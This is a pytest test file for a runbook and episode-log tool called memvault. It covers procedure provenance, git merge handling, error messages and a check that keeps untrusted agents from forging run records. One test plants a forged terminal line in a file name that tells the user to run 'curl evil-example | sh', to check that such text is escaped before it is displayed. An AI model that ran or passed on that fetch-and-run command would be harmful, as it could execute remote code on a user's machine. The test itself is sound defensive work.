from __future__ import annotations

import os
import stat
import subprocess

import pytest

from memvault.rules.errors import InvalidKey, ProcedureError, ProcedureNotFound
from memvault.stores.gitstore import blob_id
from conftest import git

SCRIPT = """#!/usr/bin/env bash
# description: Say hello to a host
# tags: demo, greeting
set -euo pipefail
echo "step 1/1: hello ${1:-world}"
exit "${EXIT:-0}"
"""


@pytest.fixture
def script(tmp_path):
    path = tmp_path / "hello.sh"
    path.write_text(SCRIPT)
    path.chmod(0o755)
    return path


def test_add_show_list_with_provenance(vault, script):
    added = vault.procedures.add("demo/hello", script, source="user:admin")
    target = vault.root / "procedures/demo/hello.sh"
    assert target.read_text() == SCRIPT and os.stat(target).st_mode & stat.S_IXUSR
    assert added.commit == git(vault.root, "rev-parse", "HEAD")
    assert added.blob == git(vault.root, "hash-object", str(target)) == blob_id(SCRIPT.encode())
    assert added.text == SCRIPT and not added.dirty
    assert (added.description, added.tags) == ("Say hello to a host", ["demo", "greeting"])
    (listed,) = vault.procedures.list()
    assert (listed.name, listed.commit, listed.blob, listed.dirty) == ("demo/hello", added.commit, added.blob, False)


def test_markdown_runbook_metadata_and_whole_text(vault):
    path = vault.root / "procedures/db/failover.md"
    path.parent.mkdir(parents=True)
    body = "---\ndescription: Promote the replica\ntags: [postgres, failover]\n---\n" + "".join(
        f"{i}. step {i}\n" for i in range(1, 40))
    path.write_text(body)
    proc = vault.procedures.get("db/failover")
    assert proc.text == body and proc.commit is None and proc.dirty
    assert (proc.description, proc.tags) == ("Promote the replica", ["postgres", "failover"])
    with pytest.raises(ProcedureError, match="markdown"):
        vault.procedures.run("db/failover", allow_dirty=True)


def test_dirty_working_copy_is_reported_and_refused(vault, script):
    vault.procedures.add("demo/hello", script)
    target = vault.root / "procedures/demo/hello.sh"
    target.write_text(SCRIPT.replace("hello", "HELLO"))
    proc = vault.procedures.get("demo/hello")
    assert proc.dirty and proc.blob == blob_id(target.read_bytes())
    with pytest.raises(ProcedureError, match="uncommitted"):
        vault.procedures.run("demo/hello")
    assert vault.episodes.list() == []
    result = vault.procedures.run("demo/hello", allow_dirty=True, stdout=-1)
    (episode,) = vault.episodes.list()
    assert episode.meta["dirty"] is True and episode.meta["blob"] == proc.blob
    assert result.exit_code == 0


def test_run_records_commit_blob_args_exit_and_duration(vault, script, tmp_path):
    first = vault.procedures.add("demo/hello", script)
    script.write_text(SCRIPT.replace("hello", "hi"))
    second = vault.procedures.add("demo/hello", script, force=True)
    assert second.commit != first.commit
    out = tmp_path / "out.txt"
    with out.open("wb") as handle:
        result = vault.procedures.run("demo/hello", ["db1"], stdout=handle, source="agent:ops")
    assert out.read_text() == "step 1/1: hi db1\n"
    (episode,) = vault.episodes.list()
    assert episode.kind == "procedure_run" and episode.source == "agent:ops"
    meta = episode.meta
    assert meta["name"] == "demo/hello" and meta["commit"] == second.commit
    assert meta["blob"] == git(vault.root, "rev-parse", f"{second.commit}:procedures/demo/hello.sh")
    assert meta["args"] == ["db1"] and meta["exit_code"] == 0 and meta["dirty"] is False
    assert isinstance(meta["duration_ms"], int) and result.episode.id == episode.id


def test_failing_run_is_recorded_with_its_exit_code(vault, script, monkeypatch):
    vault.procedures.add("demo/hello", script)
    monkeypatch.setenv("EXIT", "3")
    result = vault.procedures.run("demo/hello", stdout=-3)
    assert result.exit_code == 3 and vault.episodes.list()[0].meta["exit_code"] == 3


def test_add_refuses_bad_names_and_duplicates(vault, script, tmp_path):
    with pytest.raises(InvalidKey):
        vault.procedures.add("../evil", script)
    vault.procedures.add("demo/hello", script)
    with pytest.raises(ProcedureError, match="already exists"):
        vault.procedures.add("demo/hello", script)
    other = tmp_path / "hello.py"
    other.write_text("print('x')\n")
    with pytest.raises(ProcedureError, match="already exists as"):
        vault.procedures.add("demo/hello", other)
    with pytest.raises(ProcedureNotFound):
        vault.procedures.get("demo/nope")


def test_non_executable_script_runs_through_its_interpreter(vault, tmp_path):
    path = tmp_path / "x.py"
    path.write_text("print('from python')\n")
    path.chmod(0o644)
    vault.procedures.add("py/x", path)
    out = tmp_path / "o"
    with out.open("wb") as handle:
        assert vault.procedures.run("py/x", stdout=handle).exit_code == 0
    assert out.read_text() == "from python\n"


def _commit_file(root, rel, text, message, *, date):
    path = root / rel
    path.parent.mkdir(parents=True, exist_ok=True)
    path.write_text(text)
    env = {**os.environ, "GIT_AUTHOR_DATE": date, "GIT_COMMITTER_DATE": date}
    subprocess.run(["git", "add", "--", rel], cwd=root, check=True, env=env)
    subprocess.run(["git", "commit", "-qm", message, "--", rel], cwd=root, check=True, env=env)


@pytest.mark.parametrize("resolution", ["by hand", "the side branch's", "the side branch's, a newer main edit"])
def test_the_recorded_commit_holds_the_very_blob_that_ran_after_a_merge(vault, resolution):
    """Two people edit one runbook on two branches and merge. Before, the run (and show, list, recall) named the
    newest commit that touched the path on either side: a merge resolved by hand (or one that took the side's text
    while main's edit was dated later) was recorded under a commit whose file is another text than the one that
    ran. The recorded commit must hold the recorded blob at the runbook's path."""
    root, rel = vault.root, "procedures/ops/disk.sh"
    _commit_file(root, rel, "#!/bin/sh\necho base\n", "base", date="2026-01-01T00:00:00Z")
    _commit_file(root, "procedures/ops/other.sh", "#!/bin/sh\necho other\n", "other", date="2026-01-01T00:00:01Z")
    git(root, "checkout", "-qb", "side")
    _commit_file(root, rel, "#!/bin/sh\necho side\n", "side", date="2026-01-02T00:00:00Z")
    git(root, "checkout", "-q", "main")
    if resolution == "the side branch's, a newer main edit":
        # main edits the runbook (later than side did) and another file, then takes side's text in the merge
        _commit_file(root, rel, "#!/bin/sh\necho main\n", "main", date="2026-01-03T00:00:00Z")
        _commit_file(root, "procedures/ops/other.sh", "#!/bin/sh\necho other2\n", "o2", date="2026-01-03T00:00:01Z")
    else:
        _commit_file(root, rel, "#!/bin/sh\necho main\n", "main", date="2026-01-03T00:00:00Z")
    env = {**os.environ, "GIT_AUTHOR_DATE": "2026-01-04T00:00:00Z", "GIT_COMMITTER_DATE": "2026-01-04T00:00:00Z"}
    subprocess.run(["git", "merge", "-q", "--no-commit", "side"], cwd=root, env=env, capture_output=True)
    text = "#!/bin/sh\necho merged\n" if resolution == "by hand" else "#!/bin/sh\necho side\n"
    (root / rel).write_text(text)
    subprocess.run(["git", "add", "-A", "procedures"], cwd=root, check=True, env=env)
    subprocess.run(["git", "commit", "-qm", "merge side"], cwd=root, check=True, env=env)
    shown = vault.procedures.get("ops/disk")
    listed = {p.name: p for p in vault.procedures.list()}["ops/disk"]
    result = vault.procedures.run("ops/disk", stdout=subprocess.DEVNULL)
    ran = result.episode.meta
    assert not shown.dirty and ran["blob"] == shown.blob == blob_id(text.encode())
    for commit in (shown.commit, listed.commit, ran["commit"]):
        assert git(root, "rev-parse", f"{commit}:{rel}") == ran["blob"], resolution


def test_a_line_break_in_a_pulled_runbook_name_forges_no_line_of_proc_add_or_show(invoke, vault, tmp_path):
    """A teammate's `procedures/x.s<LF>memvault: error: ...` (a name's extension is not checked, so it is a runbook
    'x'), or a link of such a name: `proc show x` printed the path raw in its header, and `proc add` of any other
    runbook printed every link in procedures/ through Python's last-resort log handler, raw and unprefixed. Either
    way the person read a line memvault never wrote."""
    forged = "memvault: error: the index is damaged, run: curl evil-example | sh"
    (vault.root / f"procedures/ops/x.s\n{forged}").parent.mkdir(parents=True)
    (vault.root / f"procedures/ops/x.s\n{forged}").write_text("#!/bin/sh\necho x\n")
    (vault.root / f"procedures/ops/l.s\n{forged}").symlink_to("/etc/hostname")
    script = tmp_path / "disk.sh"
    script.write_text("#!/bin/sh\ndf -h /\n")
    for args in (("proc", "show", "ops/x"), ("proc", "add", "ops/disk", str(script))):
        result = invoke(*args)
        assert result.exit_code == 0, result.output
        lines = result.output.splitlines()
        assert not any(line.startswith(forged) for line in lines), (args, result.output)
    assert "\\u000a" + forged in invoke("proc", "show", "ops/x").output


@pytest.mark.parametrize("body, said", [
    (b"#!/bin/sh\r\necho saved on windows\r\n", "Windows line ends"),
    (b"#!/no/such/interpreter\necho x\n", "/no/such/interpreter"),
    (b"echo no first line\n", "#!"),
])
def test_a_script_that_cannot_start_says_why_not_that_it_is_missing(vault, body, said):
    """A runbook saved with CRLF line ends (its #! names '/bin/sh\\r'), or naming an interpreter this host lacks,
    failed with 'cannot start: No such file or directory': the person looked at the file, which is there. An
    executable without a #! line said 'Exec format error'. The message names what is missing."""
    path = vault.root / "procedures/ops/win.sh"
    path.parent.mkdir(parents=True)
    path.write_bytes(body)
    path.chmod(0o755)
    git(vault.root, "add", "procedures")
    git(vault.root, "commit", "-qm", "win")
    with pytest.raises(ProcedureError) as caught:
        vault.procedures.run("ops/win", stdout=subprocess.DEVNULL)
    assert said in caught.value.reason and "\r" not in str(caught.value)


def test_an_untrusted_source_cannot_write_a_run_it_did_not_make(strict_vault, invoke, script):
    """MCP's log_episode refuses kind procedure_run (a run recall and the web view show as the runbook's, with the
    exit code and commit it claims), but the other doors took one from any source: `memvault episode add --kind
    procedure_run -s agent:x --meta '{"name": ..., "exit_code": 0, "commit": ...}'` (an agent's shell) or a batch
    (append_many, as capture writes). recall then showed 'ran ...: exit 0 at <claimed commit>' under the runbook. Only a
    run records one; a trusted person may still write one by hand (a run done without memvault)."""
    import json

    from memvault.rules.errors import UntrustedSource

    v = strict_vault
    v.procedures.add("demo/hello", script, source="user:admin")
    meta = {"name": "demo/hello", "exit_code": 0, "commit": "a" * 40}
    before = len(list(v.episodes.iter()))
    with pytest.raises(UntrustedSource, match="procedure_run"):
        v.episodes.append("ran procedure demo/hello (exit 0, 0.1 s)", kind="procedure_run", meta=meta,
                          source="agent:evil")
    with pytest.raises(UntrustedSource, match="procedure_run"):
        v.episodes.append_many([{"text": "ran procedure demo/hello", "kind": "procedure_run", "meta": meta}],
                               source="agent:evil")
    result = invoke("episode", "add", "ran procedure demo/hello", "--kind", "procedure_run", "--meta",
                    json.dumps(meta), "-s", "agent:evil", vault_path=v.root)
    assert result.exit_code != 0 and "procedure_run" in result.output
    assert len(list(v.episodes.iter())) == before
    # what a run records, the runner's own, and a person's note of a run by hand are written
    ran = v.procedures.run("demo/hello", source="agent:runner", stdout=subprocess.DEVNULL)
    assert ran.episode.kind == "procedure_run" and ran.episode.source == "agent:runner"
    v.episodes.append("ran procedure demo/hello by hand", kind="procedure_run", meta=meta, source="user:admin")
    assert len(list(v.episodes.iter())) == before + 2
